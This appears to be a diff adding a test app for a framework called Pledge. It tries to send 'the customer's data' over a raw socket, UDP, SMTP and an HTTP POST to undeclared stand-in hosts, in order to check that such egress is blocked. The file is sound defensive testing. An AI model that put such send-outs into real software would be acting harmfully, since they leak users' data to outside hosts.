@@ -1,0 +1,77 @@
+"""A test app that tries to send data where nobody declared: a raw socket, SMTP and an HTTP client of its own, each
+beside Pledge's outbound client. Each route answers what became of its attempt."""
+
+from __future__ import annotations
+
+import asyncio
+import os
+import smtplib
+import socket
+
+import httpx
+
+from pledge.app import App, Auth, RequestContext
+
+UNDECLARED_ADDRESS = "192.0.2.25"  # TEST-NET-1 (RFC 5737): never anyone's server
+UNDECLARED_HOST = "mail.undeclared.example"
+LOOPBACK_PORT_ENV = "LEAKY_APP_LOOPBACK_PORT"
+
+app = App(key="leaky", name="Leaky test app")
+
+
+def _outcome(attempt: BaseException | None) -> dict[str, str]:
+    """What became of the attempt: the innermost error a client wrapped (httpx wraps the socket's)."""
+    if attempt is None:
+        return {"outcome": "sent"}
+    while attempt.__cause__ is not None or attempt.__context__ is not None:
+        attempt = attempt.__cause__ or attempt.__context__
+        assert attempt is not None
+    return {"outcome": type(attempt).__name__, "detail": str(attempt)}
+
+
+def _try(action: object) -> dict[str, str]:
+    try:
+        action()  # type: ignore[operator]
+    except Exception as exc:
+        return _outcome(exc)
+    return _outcome(None)
+
+
+@app.route("/raw-socket", auth=Auth.PUBLIC)
+async def raw_socket(_context: RequestContext) -> dict[str, str]:
+    def send() -> None:
+        with socket.create_connection((UNDECLARED_ADDRESS, 25), timeout=2) as connection:
+            connection.sendall(b"the customer's data")
+
+    return await asyncio.to_thread(_try, send)
+
+
+@app.route("/udp", auth=Auth.PUBLIC)
+async def udp(_context: RequestContext) -> dict[str, str]:
+    def send() -> None:
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram:
+            datagram.sendto(b"the customer's data", (UNDECLARED_ADDRESS, 514))
+
+    return _try(send)
+
+
+@app.route("/smtp", auth=Auth.PUBLIC)
+async def smtp(_context: RequestContext) -> dict[str, str]:
+    return await asyncio.to_thread(_try, lambda: smtplib.SMTP(UNDECLARED_HOST, 25, timeout=2))
+
+
+@app.route("/own-http-client", auth=Auth.PUBLIC)
+async def own_http_client(_context: RequestContext) -> dict[str, str]:
+    try:
+        async with httpx.AsyncClient(timeout=2) as client:
+            await client.post(f"http://{UNDECLARED_ADDRESS}/collect", content=b"the customer's data")
+    except Exception as exc:
+        return _outcome(exc)
+    return _outcome(None)
+
+
+@app.route("/loopback", auth=Auth.PUBLIC)
+async def loopback(_context: RequestContext) -> dict[str, str]:
+    """The deployment's own machine stays reachable (a local database, cache or sidecar)."""
+    port = int(os.environ[LOOPBACK_PORT_ENV])
+    return await asyncio.to_thread(_try, lambda: socket.create_connection(("127.0.0.1", port), timeout=2).close())
